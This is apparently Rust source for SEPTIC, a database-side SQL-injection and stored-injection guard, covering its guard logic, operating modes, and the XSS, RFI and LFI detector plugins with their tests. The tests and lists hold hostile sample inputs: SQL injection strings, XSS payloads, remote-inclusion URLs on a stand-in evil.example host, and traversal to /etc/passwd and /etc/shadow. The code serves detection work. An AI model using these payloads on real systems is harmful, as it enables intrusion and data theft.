        // query is the mode's failure policy, not an accident.
        let policy = engine.failure_policies.for_mode(engine.mode);
        let fail_open = policy == FailurePolicy::FailOpen;
        let started = Instant::now();
        let detection = catch_unwind(AssertUnwindSafe(|| {
            self.run_detectors(ctx, &compiled, &id, &engine, actions, &mut spans)
        }));
        let elapsed = started.elapsed();

        match detection {
            // A positive detection blocks regardless of deadline: slowness
            // never downgrades a flagged attack.
            Ok(Some(block)) => return block,
            Ok(None) => {}
            Err(payload) => {
                Self::bump(&self.counters.guard_panics);
                let what = panic_message(payload.as_ref());
                self.log_event_with(|| EventKind::DetectorFailed {
                    id: id.clone(),
                    what: what.clone(),
                    fail_open,
                });
                if fail_open {
                    Self::bump(&self.counters.fail_open_passes);
                    return GuardDecision::Proceed;
                }
                Self::bump(&self.counters.queries_dropped);
                return GuardDecision::Block(format!(
                    "detector failure ({what}) id={id}, fail-closed"
                ));
            }
        }

        if let Some(budget) = engine.deadline {
            if elapsed > budget {
                Self::bump(&self.counters.deadline_exceeded);
                self.log_event_with(|| EventKind::DeadlineExceeded {
                    id: id.clone(),
                    elapsed_us: septic_telemetry::saturating_micros(elapsed),
                    budget_us: septic_telemetry::saturating_micros(budget),
                    fail_open,
                    // Where the time went (per-stage spans for this very
                    // query), so the blown budget is attributable.
                    stages: spans,
                });
                if fail_open {
                    Self::bump(&self.counters.fail_open_passes);
                } else {
                    Self::bump(&self.counters.queries_dropped);
                    return GuardDecision::Block(format!(
                        "detection deadline exceeded id={id}, fail-closed"
                    ));
                }
            }
        }

        GuardDecision::Proceed
    }
}

impl std::fmt::Debug for Septic {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Septic")
            .field("mode", &self.mode())
            .field("config", &self.config().label())
            .field("models", &self.store.len())
            .finish_non_exhaustive()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;

    use septic_dbms::{DbError, Server};

    fn deployed() -> (
        Arc<septic_dbms::Server>,
        septic_dbms::Connection,
        Arc<Septic>,
    ) {
        let server = Server::new();
        let conn = server.connect();
        conn.execute(
            "CREATE TABLE tickets (reservID VARCHAR(16), creditCard INT, note VARCHAR(200))",
        )
        .unwrap();
        conn.execute(
            "INSERT INTO tickets (reservID, creditCard, note) VALUES ('ID34FG', 1234, '')",
        )
        .unwrap();
        let septic = Arc::new(Septic::new());
        server.install_guard(septic.clone());
        (server, conn, septic)
    }

    const BENIGN: &str = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";

    #[test]
    fn training_then_prevention_blocks_structural_attack() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        septic.set_mode(Mode::PREVENTION);
        // Benign re-run with different data: fine.
        conn.execute("SELECT * FROM tickets WHERE reservID = 'ZZ' AND creditCard = 9")
            .unwrap();
        // Second-order shape (comment swallowed the tail): blocked.
        let err = conn
            .execute("SELECT * FROM tickets WHERE reservID = 'ID34FG'-- ' AND creditCard = 0")
            .unwrap_err();
        assert!(matches!(err, DbError::Blocked(_)));
        let snap = septic.counters();
        assert_eq!(snap.sqli_detected, 1);
        assert_eq!(snap.queries_dropped, 1);
    }

    #[test]
    fn detection_mode_logs_but_executes() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        septic.set_mode(Mode::DETECTION);
        let res =
            conn.execute("SELECT * FROM tickets WHERE reservID = '' OR 1=1-- ' AND creditCard = 0");
        assert!(res.is_ok(), "detection mode must not drop");
        assert_eq!(septic.counters().sqli_detected, 1);
        assert_eq!(septic.counters().queries_dropped, 0);
    }

    #[test]
    fn construct_counters_attribute_detections() {
        let (_s, conn, septic) = deployed();
        conn.execute("CREATE TABLE devices (name VARCHAR(16), owner VARCHAR(32))")
            .unwrap();
        conn.execute("INSERT INTO devices (name, owner) VALUES ('dev-1', 'ann')")
            .unwrap();
        septic.set_mode(Mode::Training);
        conn.execute(
            "SELECT t.reservID, d.owner FROM tickets t JOIN devices d \
             ON t.reservID = d.name WHERE d.owner = 'ann'",
        )
        .unwrap();
        conn.execute(
            "SELECT reservID, COUNT(*) FROM tickets GROUP BY reservID HAVING COUNT(*) > 1",
        )
        .unwrap();
        conn.execute(
            "SELECT reservID FROM tickets WHERE reservID IN \
             (SELECT name FROM devices WHERE owner = 'ann')",
        )
        .unwrap();
        septic.set_mode(Mode::DETECTION);
        conn.execute(
            "SELECT t.reservID, d.owner FROM tickets t JOIN devices d \
             ON t.reservID = d.name WHERE d.owner = '' OR 1=1-- '",
        )
        .unwrap();
        conn.execute(
            "SELECT reservID, COUNT(*) FROM tickets GROUP BY reservID \
             HAVING COUNT(*) > 1 OR 2 = 2",
        )
        .unwrap();
        conn.execute(
            "SELECT reservID FROM tickets WHERE reservID IN \
             (SELECT name FROM devices WHERE owner = '') OR 1=1-- '",
        )
        .unwrap();
        let snap = septic.counters();
        assert_eq!(snap.sqli_detected, 3);
        assert_eq!(snap.join_attacks, 1);
        assert_eq!(snap.group_by_attacks, 1);
        assert_eq!(snap.subquery_attacks, 1);
        let report = septic.status_report();
        assert!(
            report.contains("by construct    : join=1 group_by=1 subquery=1"),
            "{report}"
        );
    }

    #[test]
    fn training_is_idempotent_per_query_shape() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        conn.execute(BENIGN).unwrap();
        conn.execute("SELECT * FROM tickets WHERE reservID = 'OTHER' AND creditCard = 5")
            .unwrap();
        // One model for the shape, despite three queries.
        assert_eq!(septic.counters().models_created, 1);
        let created = septic
            .logger()
            .events_where(|k| matches!(k, EventKind::ModelCreated { .. }));
        assert_eq!(created.len(), 1);
    }

    #[test]
    fn incremental_learning_in_normal_mode() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::PREVENTION);
        // Unknown query: learned incrementally, executed.
        conn.execute(BENIGN).unwrap();
        let created = septic.logger().events_where(|k| {
            matches!(
                k,
                EventKind::ModelCreated {
                    incremental: true,
                    ..
                }
            )
        });
        assert_eq!(created.len(), 1);
        // Second time it is found, not re-created.
        conn.execute(BENIGN).unwrap();
        assert_eq!(septic.counters().models_found, 1);
    }

    #[test]
    fn nn_config_detects_nothing() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        septic.set_mode(Mode::PREVENTION);
        septic.set_config(DetectionConfig::NN);
        conn.execute("SELECT * FROM tickets WHERE reservID = '' OR 1=1-- '")
            .unwrap();
        assert_eq!(septic.counters().sqli_detected, 0);
    }

    #[test]
    fn stored_injection_blocked_on_insert() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute("INSERT INTO tickets (reservID, creditCard, note) VALUES ('A', 1, 'hello')")
            .unwrap();
        septic.set_mode(Mode::PREVENTION);
        let err = conn
            .execute(
                "INSERT INTO tickets (reservID, creditCard, note) \
                 VALUES ('B', 2, '<script>alert(1)</script>')",
            )
            .unwrap_err();
        assert!(matches!(err, DbError::Blocked(_)));
        assert_eq!(septic.counters().stored_detected, 1);
    }

    #[test]
    fn ny_config_detects_stored_but_not_sqli() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        conn.execute("INSERT INTO tickets (reservID, creditCard, note) VALUES ('A', 1, 'x')")
            .unwrap();
        septic.set_mode(Mode::PREVENTION);
        septic.set_config(DetectionConfig::NY);
        // SQLI passes (detector off)…
        conn.execute("SELECT * FROM tickets WHERE reservID = '' OR 1=1-- '")
            .unwrap();
        // …stored injection is still caught.
        assert!(conn
            .execute(
                "INSERT INTO tickets (reservID, creditCard, note) VALUES ('B', 2, '<svg/onload=x>')"
            )
            .is_err());
    }

    #[test]
    fn config_labels() {
        assert_eq!(DetectionConfig::NN.label(), "NN");
        assert_eq!(DetectionConfig::YN.label(), "YN");
        assert_eq!(DetectionConfig::NY.label(), "NY");
        assert_eq!(DetectionConfig::YY.label(), "YY");
        assert_eq!(DetectionConfig::all().len(), 4);
    }

    #[test]
    fn persistence_round_trip_survives_restart() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        let dir = std::env::temp_dir().join("septic-core-test");
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("models.json");
        septic.save_models(&path).unwrap();

        // "Restart": a fresh SEPTIC loads the persisted models.
        let fresh = Septic::new();
        let report = fresh.load_models(&path).unwrap();
        assert_eq!(report.models_loaded, 1);
        assert!(!report.recovered);
        fresh.set_mode(Mode::PREVENTION);
        assert_eq!(fresh.store().len(), 1);
        std::fs::remove_file(&path).ok();
    }

    #[test]
    fn external_ids_partition_models() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute("/* qid:page-a */ SELECT * FROM tickets WHERE reservID = 'X'")
            .unwrap();
        conn.execute("/* qid:page-b */ SELECT * FROM tickets WHERE reservID = 'X'")
            .unwrap();
        assert_eq!(septic.counters().models_created, 2);
        // With external ids disabled the same two queries share one model.
        let septic2 = Septic::new();
        septic2.set_use_external_ids(false);
        let server = Server::new();
        let conn2 = server.connect();
        conn2
            .execute("CREATE TABLE tickets (reservID VARCHAR(16))")
            .unwrap();
        server.install_guard(Arc::new(Septic::new()));
        // (behavioural check is in the ablation harness; here just the flag)
        assert!(!septic2.id_generator.use_external());
    }

    #[test]
    fn administrator_review_workflow() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::PREVENTION);
        // Unknown query arrives: learned provisionally, executed.
        conn.execute(BENIGN).unwrap();
        let pending = septic.pending_review();
        assert_eq!(pending.len(), 1);
        // Reject it: the same query is refused from now on.
        assert!(septic.reject_model(&pending[0]));
        let err = conn.execute(BENIGN).unwrap_err();
        assert!(matches!(err, DbError::Blocked(_)));
        assert!(err.to_string().contains("rejected by administrator"));
        // Approval path: a different query shape gets approved and keeps
        // flowing without re-entering quarantine.
        conn.execute("SELECT reservID FROM tickets WHERE creditCard = 7")
            .unwrap();
        let pending = septic.pending_review();
        assert_eq!(pending.len(), 1);
        assert!(septic.approve_model(&pending[0]));
        assert!(septic.pending_review().is_empty());
        conn.execute("SELECT reservID FROM tickets WHERE creditCard = 8")
            .unwrap();
        assert!(septic.pending_review().is_empty());
    }

    #[test]
    fn training_mode_models_are_not_quarantined() {
        let (_s, conn, septic) = deployed();
        septic.set_mode(Mode::Training);
        conn.execute(BENIGN).unwrap();
        assert!(septic.pending_review().is_empty());
    }

    #[test]
    fn status_report_shows_state() {
        let septic = Septic::new();
        septic.set_mode(Mode::PREVENTION);
        let report = septic.status_report();
        assert!(report.contains("mode            : prevention"));
        assert!(report.contains("detectors       : YY"));
        assert!(report.contains("models learned  : 0"));
    }

    #[test]
    fn recovered_payload_is_re_detected_by_a_fresh_deployment() {
        use septic_dbms::{MemIo, ServerConfig, WalConfig};

        let io = MemIo::new();
        // Life before the restart: no guard at all — the payload is
        // stored with nothing watching.
        {
            let (server, _) =
                Server::open_durable(ServerConfig::default(), io.clone(), WalConfig::default())
                    .unwrap();
            let conn = server.connect();
            conn.execute("CREATE TABLE posts (id INT PRIMARY KEY, body VARCHAR(200))")
                .unwrap();
            conn.execute_prepared(
                "INSERT INTO posts (id, body) VALUES (1, ?)",
                &[septic_dbms::Value::from("<script>alert(1)</script>")],
            )
            .unwrap();
            conn.execute("INSERT INTO posts (id, body) VALUES (2, 'benign note')")
                .unwrap();
        }

        // Restart: recover from the WAL, deploy a fresh SEPTIC in
        // prevention mode, and sweep the recovered data.
        let (server, report) =
            Server::open_durable(ServerConfig::default(), io, WalConfig::default()).unwrap();
        assert!(report.replayed_records > 0);
        let septic = Arc::new(Septic::new());
        septic.set_mode(Mode::PREVENTION);
        server.install_guard(septic.clone());
        let flagged = server.scan_recovered();
        assert_eq!(flagged, 1, "the stored XSS payload must be re-detected");
        let snap = septic.counters();
        assert!(snap.recovered_values >= 2);
        assert_eq!(snap.recovered_flagged, 1);
        let events = septic
            .logger()
            .events_where(|k| matches!(k, EventKind::RecoveredDataFlagged { .. }));
        assert_eq!(events.len(), 1);
        // The ablation switch gates the sweep.
        septic.set_config(DetectionConfig::YN);
        assert_eq!(server.scan_recovered(), 0);
    }

    #[test]
    fn mode_change_is_logged() {
        let septic = Septic::new();
        septic.set_mode(Mode::PREVENTION);
        septic.set_mode(Mode::PREVENTION); // no-op
        let changes = septic
            .logger()
            .events_where(|k| matches!(k, EventKind::ModeChanged { .. }));
        assert_eq!(changes.len(), 1);
    }
}
