//! Operation modes and the actions they take (Table I of the paper).
//!
//! | mode        | QM: training | QM: incremental | QM log | detect SQLI | detect stored | log attacks | drop query | exec query |
//! |-------------|--------------|-----------------|--------|-------------|---------------|-------------|------------|------------|
//! | training    | ✓            |                 | ✓      |             |               |             |            | ✓          |
//! | prevention  |              | ✓               | ✓      | ✓           | ✓             | ✓           | ✓          |            |
//! | detection   |              | ✓               | ✓      | ✓           | ✓             | ✓           |            | ✓          |
//!
//! (The last two columns read: what happens *when an attack is flagged* —
//! prevention drops the query, detection executes it anyway.)

use std::fmt;

use septic_dbms::FailurePolicy;
use serde::{Deserialize, Serialize};

/// Normal-mode sub-mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum NormalMode {
    /// Attacks are logged but queries still execute.
    Detection,
    /// Attacks are logged and the query is dropped.
    Prevention,
}

/// SEPTIC operation mode.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Mode {
    /// Learn query models; no detection.
    Training,
    /// Detect (and possibly block) attacks.
    Normal(NormalMode),
}

impl Mode {
    /// Shorthand for `Mode::Normal(NormalMode::Prevention)`.
    pub const PREVENTION: Mode = Mode::Normal(NormalMode::Prevention);
    /// Shorthand for `Mode::Normal(NormalMode::Detection)`.
    pub const DETECTION: Mode = Mode::Normal(NormalMode::Detection);

    /// True while in training mode.
    #[must_use]
    pub fn is_training(&self) -> bool {
        matches!(self, Mode::Training)
    }
}

impl fmt::Display for Mode {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Mode::Training => f.write_str("training"),
            Mode::Normal(NormalMode::Detection) => f.write_str("detection"),
            Mode::Normal(NormalMode::Prevention) => f.write_str("prevention"),
        }
    }
}

/// The action matrix of Table I, derivable from a mode. Used by the
/// `table1_modes` harness to print the table from behaviour rather than
/// hard-coding it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ModeActions {
    /// Models are learned during an explicit training phase.
    pub qm_training: bool,
    /// Unknown queries create models incrementally during normal operation.
    pub qm_incremental: bool,
    /// Model creation is logged.
    pub qm_log: bool,
    /// SQLI detection runs.
    pub detect_sqli: bool,
    /// Stored-injection detection runs.
    pub detect_stored: bool,
    /// Flagged attacks are logged.
    pub log_attacks: bool,
    /// Flagged queries are dropped.
    pub drop_on_attack: bool,
    /// Flagged queries still execute.
    pub exec_on_attack: bool,
}

impl ModeActions {
    /// Actions taken in the given mode.
    #[must_use]
    pub fn for_mode(mode: Mode) -> Self {
        match mode {
            Mode::Training => ModeActions {
                qm_training: true,
                qm_incremental: false,
                qm_log: true,
                detect_sqli: false,
                detect_stored: false,
                log_attacks: false,
                drop_on_attack: false,
                exec_on_attack: true,
            },
            Mode::Normal(sub) => ModeActions {
                qm_training: false,
                qm_incremental: true,
                qm_log: true,
                detect_sqli: true,
                detect_stored: true,
                log_attacks: true,
                drop_on_attack: sub == NormalMode::Prevention,
                exec_on_attack: sub == NormalMode::Detection,
            },
        }
    }
}

/// Per-mode failure policy: what happens to a query when SEPTIC *itself*
/// fails (a detector panics, or detection blows its deadline budget).
///
/// The defaults follow each mode's contract. Training and detection never
/// drop queries even for real attacks, so a SEPTIC outage must not either
/// (fail-open). Prevention promises that flagged queries do not reach
/// execution; a query whose inspection failed was never cleared, so it is
/// dropped (fail-closed).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FailurePolicyMatrix {
    /// Policy while training.
    pub training: FailurePolicy,
    /// Policy in detection mode.
    pub detection: FailurePolicy,
    /// Policy in prevention mode.
    pub prevention: FailurePolicy,
}

impl Default for FailurePolicyMatrix {
    fn default() -> Self {
        FailurePolicyMatrix {
            training: FailurePolicy::FailOpen,
            detection: FailurePolicy::FailOpen,
            prevention: FailurePolicy::FailClosed,
        }
    }
}

impl FailurePolicyMatrix {
    /// The policy in effect for a mode.
    #[must_use]
    pub fn for_mode(&self, mode: Mode) -> FailurePolicy {
        match mode {
            Mode::Training => self.training,
            Mode::Normal(NormalMode::Detection) => self.detection,
            Mode::Normal(NormalMode::Prevention) => self.prevention,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table1_training_row() {
        let a = ModeActions::for_mode(Mode::Training);
        assert!(a.qm_training && a.qm_log && a.exec_on_attack);
        assert!(!a.detect_sqli && !a.detect_stored && !a.drop_on_attack && !a.qm_incremental);
    }

    #[test]
    fn table1_prevention_row() {
        let a = ModeActions::for_mode(Mode::PREVENTION);
        assert!(a.qm_incremental && a.qm_log);
        assert!(a.detect_sqli && a.detect_stored && a.log_attacks && a.drop_on_attack);
        assert!(!a.exec_on_attack && !a.qm_training);
    }

    #[test]
    fn table1_detection_row() {
        let a = ModeActions::for_mode(Mode::DETECTION);
        assert!(a.detect_sqli && a.detect_stored && a.log_attacks && a.exec_on_attack);
        assert!(!a.drop_on_attack);
    }

    #[test]
    fn default_failure_policies_match_mode_contracts() {
        let m = FailurePolicyMatrix::default();
        assert_eq!(m.for_mode(Mode::Training), FailurePolicy::FailOpen);
        assert_eq!(m.for_mode(Mode::DETECTION), FailurePolicy::FailOpen);
        assert_eq!(m.for_mode(Mode::PREVENTION), FailurePolicy::FailClosed);
    }

    #[test]
    fn display_names() {
        assert_eq!(Mode::Training.to_string(), "training");
        assert_eq!(Mode::PREVENTION.to_string(), "prevention");
        assert_eq!(Mode::DETECTION.to_string(), "detection");
        assert!(Mode::Training.is_training());
        assert!(!Mode::PREVENTION.is_training());
    }
}
