//! Stored XSS plugin.
//!
//! Mirrors the paper's example (Section II-D2): the quick filter looks for
//! `<`/`>`; the precise step *"inserts this input in a web page and calls
//! an HTML parser"*, flagging the input when the parser finds executable
//! content. Here the HTML parser is a small tag/attribute scanner that
//! recognises script-capable elements, event-handler attributes and
//! `javascript:` URIs.

use super::{Plugin, StoredAttack};

/// Elements whose mere presence in user data means script execution.
const SCRIPT_TAGS: &[&str] = &[
    "script", "iframe", "object", "embed", "svg", "math", "link", "meta", "base", "form",
];

/// URI schemes that execute when placed in `href`/`src`.
const SCRIPT_SCHEMES: &[&str] = &["javascript:", "vbscript:", "data:text/html"];

/// A parsed tag: name plus attribute names/values.
#[derive(Debug, PartialEq, Eq)]
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

/// Minimal HTML tag scanner: finds `<name attr=value ...>` occurrences,
/// tolerating unquoted/single-/double-quoted attribute values and sloppy
/// whitespace — the kind of markup XSS payloads actually use.
fn scan_tags(input: &str) -> Vec<Tag> {
    let chars: Vec<char> = input.chars().collect();
    let mut tags = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        if chars[i] != '<' {
            i += 1;
            continue;
        }
        i += 1;
        // optional `/` of a closing tag
        if i < chars.len() && chars[i] == '/' {
            i += 1;
        }
        let name_start = i;
        while i < chars.len() && (chars[i].is_ascii_alphanumeric() || chars[i] == '-') {
            i += 1;
        }
        if i == name_start {
            continue; // `<` not followed by a name — not a tag
        }
        let name: String = chars[name_start..i]
            .iter()
            .collect::<String>()
            .to_lowercase();
        let mut attrs = Vec::new();
        // attribute loop until `>` or end
        while i < chars.len() && chars[i] != '>' {
            while i < chars.len() && (chars[i].is_whitespace() || chars[i] == '/') {
                i += 1;
            }
            if i >= chars.len() || chars[i] == '>' {
                break;
            }
            let attr_start = i;
            while i < chars.len() && !chars[i].is_whitespace() && chars[i] != '=' && chars[i] != '>'
            {
                i += 1;
            }
            let attr_name: String = chars[attr_start..i]
                .iter()
                .collect::<String>()
                .to_lowercase();
            let mut attr_value = String::new();
            while i < chars.len() && chars[i].is_whitespace() {
                i += 1;
            }
            if i < chars.len() && chars[i] == '=' {
                i += 1;
                while i < chars.len() && chars[i].is_whitespace() {
                    i += 1;
                }
                if i < chars.len() && (chars[i] == '"' || chars[i] == '\'') {
                    let quote = chars[i];
                    i += 1;
                    let v_start = i;
                    while i < chars.len() && chars[i] != quote {
                        i += 1;
                    }
                    attr_value = chars[v_start..i].iter().collect();
                    i += 1; // closing quote
                } else {
                    let v_start = i;
                    while i < chars.len() && !chars[i].is_whitespace() && chars[i] != '>' {
                        i += 1;
                    }
                    attr_value = chars[v_start..i].iter().collect();
                }
            }
            if !attr_name.is_empty() {
                attrs.push((attr_name, attr_value));
            }
        }
        tags.push(Tag { name, attrs });
        i += 1; // `>` (or end)
    }
    tags
}

/// The stored XSS plugin.
#[derive(Debug, Clone, Copy, Default)]
pub struct StoredXssPlugin;

impl StoredXssPlugin {
    /// Creates the plugin.
    #[must_use]
    pub fn new() -> Self {
        StoredXssPlugin
    }
}

impl Plugin for StoredXssPlugin {
    fn name(&self) -> &'static str {
        "stored-xss"
    }

    fn quick_filter(&self, input: &str) -> bool {
        // The paper's filter characters for XSS.
        input.contains('<') || input.contains('>')
    }

    fn confirm(&self, input: &str) -> Option<StoredAttack> {
        for tag in scan_tags(input) {
            if SCRIPT_TAGS.contains(&tag.name.as_str()) {
                return Some(StoredAttack::new(
                    "stored XSS",
                    format!("script-capable element <{}>", tag.name),
                ));
            }
            for (attr, value) in &tag.attrs {
                if attr.starts_with("on") && attr.len() > 2 {
                    return Some(StoredAttack::new(
                        "stored XSS",
                        format!("event handler {attr} on <{}>", tag.name),
                    ));
                }
                let v = value.trim().to_lowercase().replace(char::is_whitespace, "");
                if SCRIPT_SCHEMES.iter().any(|s| v.starts_with(s)) {
                    return Some(StoredAttack::new(
                        "stored XSS",
                        format!("script URI in {attr} of <{}>", tag.name),
                    ));
                }
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scan(input: &str) -> Option<StoredAttack> {
        StoredXssPlugin::new().scan(input)
    }

    #[test]
    fn paper_example_is_flagged() {
        let found = scan("<script> alert('Hello!');</script>").expect("flag");
        assert!(found.evidence.contains("script"));
    }

    #[test]
    fn event_handlers_are_flagged() {
        assert!(scan("<img src=x onerror=alert(1)>").is_some());
        assert!(scan("<b onmouseover='steal()'>hi</b>").is_some());
        assert!(scan("<div ONCLICK=\"x()\">y</div>").is_some());
    }

    #[test]
    fn javascript_uris_are_flagged() {
        assert!(scan("<a href=\"javascript:alert(1)\">x</a>").is_some());
        assert!(scan("<a href='JaVaScRiPt: alert(1)'>x</a>").is_some());
    }

    #[test]
    fn dangerous_elements_are_flagged() {
        for payload in [
            "<iframe src=//evil.example></iframe>",
            "<svg/onload=alert(1)>",
            "<object data=x>",
            "<embed src=x>",
        ] {
            assert!(scan(payload).is_some(), "{payload}");
        }
    }

    #[test]
    fn benign_angle_brackets_pass() {
        // Step 1 fires but step 2 clears these.
        assert_eq!(scan("3 < 4 and 5 > 2"), None);
        assert_eq!(scan("use the <enter> key"), None);
        assert_eq!(scan("a <= b"), None);
        // <b> is markup but not script-capable.
        assert_eq!(scan("<b>bold</b>"), None);
        assert_eq!(scan("<em>x</em> <i>y</i>"), None);
    }

    #[test]
    fn no_angle_brackets_short_circuits() {
        let p = StoredXssPlugin::new();
        assert!(!p.quick_filter("john doe"));
        assert_eq!(p.scan("john doe"), None);
    }

    #[test]
    fn tag_scanner_parses_attributes() {
        let tags = scan_tags("<img src='x.png' onerror = alert(1) >");
        assert_eq!(tags.len(), 1);
        assert_eq!(tags[0].name, "img");
        assert_eq!(tags[0].attrs[0], ("src".into(), "x.png".into()));
        assert_eq!(tags[0].attrs[1].0, "onerror");
    }
}
