//! Remote and local file inclusion plugins (RFI / LFI).
//!
//! RFI: user data carrying a remote URL or a PHP stream wrapper that, if it
//! later reaches an `include`-like sink, pulls code from elsewhere.
//! LFI: path-traversal sequences and well-known sensitive paths.

use super::{Plugin, StoredAttack};

/// URL schemes / stream wrappers whose inclusion executes remote content.
const REMOTE_SCHEMES: &[&str] = &[
    "http://",
    "https://",
    "ftp://",
    "ftps://",
    "php://",
    "data://",
    "expect://",
    "zip://",
    "phar://",
    "file://",
    "\\\\", // UNC path
];

/// Sensitive local paths LFI payloads aim at.
const SENSITIVE_PATHS: &[&str] = &[
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/environ",
    "/var/log/",
    "c:\\windows",
    "boot.ini",
    "win.ini",
];

/// The RFI plugin.
#[derive(Debug, Clone, Copy, Default)]
pub struct RfiPlugin;

impl Plugin for RfiPlugin {
    fn name(&self) -> &'static str {
        "rfi"
    }

    fn quick_filter(&self, input: &str) -> bool {
        input.contains("://") || input.contains("\\\\")
    }

    fn confirm(&self, input: &str) -> Option<StoredAttack> {
        let lower = input.to_lowercase();
        for scheme in REMOTE_SCHEMES {
            if let Some(pos) = lower.find(scheme) {
                // Heuristic: a URL buried in prose ("see https://docs…")
                // is only a finding when it smells like an include target:
                // a script extension, a query string, or a wrapper scheme.
                let rest = &lower[pos..];
                let wrapper = !scheme.starts_with("http") && !scheme.starts_with("ftp");
                let scripty = [".php", ".txt?", ".jpg?", "?", ".inc"]
                    .iter()
                    .any(|m| rest.contains(m));
                let bare = lower.trim() == rest.trim(); // the whole input is the URL
                if wrapper || scripty || bare {
                    return Some(StoredAttack::new(
                        "RFI",
                        format!("remote inclusion target `{}`", truncate(rest, 48)),
                    ));
                }
            }
        }
        None
    }
}

/// The LFI plugin.
#[derive(Debug, Clone, Copy, Default)]
pub struct LfiPlugin;

impl Plugin for LfiPlugin {
    fn name(&self) -> &'static str {
        "lfi"
    }

    fn quick_filter(&self, input: &str) -> bool {
        input.contains("..") || input.contains('/') || input.contains('\\') || input.contains('\0')
    }

    fn confirm(&self, input: &str) -> Option<StoredAttack> {
        let lower = input.to_lowercase();
        // Decoded traversal sequences (payloads often pre-encode them; the
        // application layer URL-decodes before the value reaches SQL).
        let traversal = ["../", "..\\", "....//", "%2e%2e%2f", "..%2f", "%2e%2e/"];
        for t in traversal {
            if lower.contains(t) {
                return Some(StoredAttack::new(
                    "LFI",
                    format!("path traversal `{}`", truncate(&lower, 48)),
                ));
            }
        }
        for p in SENSITIVE_PATHS {
            if lower.contains(p) {
                return Some(StoredAttack::new("LFI", format!("sensitive path `{p}`")));
            }
        }
        if input.contains('\0') {
            return Some(StoredAttack::new("LFI", "NUL byte truncation".to_string()));
        }
        None
    }
}

fn truncate(s: &str, n: usize) -> String {
    if s.chars().count() <= n {
        s.to_string()
    } else {
        let cut: String = s.chars().take(n).collect();
        format!("{cut}…")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rfi_flags_wrappers_and_script_urls() {
        let p = RfiPlugin;
        assert!(p.scan("http://evil.example/shell.php").is_some());
        assert!(p
            .scan("php://filter/convert.base64-encode/resource=index")
            .is_some());
        assert!(p.scan("data://text/plain;base64,cGhwaW5mbygp").is_some());
        assert!(p.scan("expect://ls").is_some());
        assert!(p.scan("https://evil.example/x.txt?cmd=id").is_some());
    }

    #[test]
    fn rfi_bare_url_is_flagged_but_prose_is_not() {
        let p = RfiPlugin;
        assert!(p.scan("https://evil.example/payload").is_some());
        assert_eq!(
            p.scan("read the docs at https://docs.example.org/intro before asking"),
            None
        );
    }

    #[test]
    fn lfi_flags_traversal_and_sensitive_paths() {
        let p = LfiPlugin;
        assert!(p.scan("../../../../etc/passwd").is_some());
        assert!(p.scan("..\\..\\windows\\win.ini").is_some());
        assert!(p.scan("/etc/shadow").is_some());
        assert!(p.scan("....//....//etc/hosts").is_some());
        assert!(p.scan("index.php\0.png").is_some());
    }

    #[test]
    fn lfi_passes_normal_paths() {
        let p = LfiPlugin;
        assert_eq!(p.scan("photos/2024/summer.jpg"), None);
        assert_eq!(p.scan("a/b/c"), None);
        assert_eq!(p.scan("no slashes at all"), None);
    }

    #[test]
    fn quick_filters_gate_cheaply() {
        assert!(!RfiPlugin.quick_filter("plain text"));
        assert!(!LfiPlugin.quick_filter("plain text"));
        assert!(LfiPlugin.quick_filter("a/b"));
    }
}
