//! Stored-injection detection **plugins**.
//!
//! For `INSERT`/`UPDATE` commands SEPTIC runs a two-step check over each
//! user input (Section II-C3): (1) a lightweight character filter decides
//! whether the input *might* carry a given attack class; (2) only then does
//! the plugin run its precise, more expensive validation. The current
//! implementation covers the classes the paper lists: stored XSS, remote
//! and local file inclusion (RFI/LFI), and OS/remote command execution
//! (OSCI/RCE).

use std::fmt;

use serde::{Deserialize, Serialize};

pub mod fi;
pub mod osci;
pub mod xss;

pub use fi::{LfiPlugin, RfiPlugin};
pub use osci::{OsciPlugin, RcePlugin};
pub use xss::StoredXssPlugin;

/// A confirmed stored-injection finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct StoredAttack {
    /// Attack class name, e.g. `stored XSS`.
    pub class: String,
    /// Human-readable evidence, e.g. `script tag <script>`.
    pub evidence: String,
}

impl StoredAttack {
    /// Creates a finding.
    #[must_use]
    pub fn new(class: impl Into<String>, evidence: impl Into<String>) -> Self {
        StoredAttack {
            class: class.into(),
            evidence: evidence.into(),
        }
    }
}

impl fmt::Display for StoredAttack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.class, self.evidence)
    }
}

/// A stored-injection detection plugin.
pub trait Plugin: Send + Sync {
    /// Plugin name (for logs).
